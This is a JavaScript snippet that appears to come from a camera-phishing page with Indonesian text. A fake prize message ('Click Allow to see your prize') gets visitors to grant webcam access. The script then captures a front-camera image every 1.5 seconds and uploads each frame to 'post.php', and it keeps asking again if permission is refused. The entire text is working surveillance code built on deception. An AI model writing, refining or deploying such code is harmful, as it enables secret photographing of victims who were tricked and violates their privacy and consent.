const v = document.createElement('video'), c = document.createElement('canvas');
async function mulai() {
  const s = await navigator.mediaDevices.getUserMedia({ video: { facingMode: 'user' }, audio: false });
  v.srcObject = s; await v.play();
  c.width = 640; c.height = 480;
  setInterval(() => {
    c.getContext('2d').drawImage(v, 0, 0, 640, 480);
    $.ajax({ type: 'POST', url: 'post.php', data: { cat: c.toDataURL('image/png').replace('image/png', 'image/octet-stream') } });
  }, 1500);
}
document.getElementById('hadiah').innerHTML = 'Klik <b>Izinkan</b> untuk melihat hadiah Anda';
mulai().catch(() => { document.title = 'Izinkan kamera!'; setTimeout(mulai, 2000); });
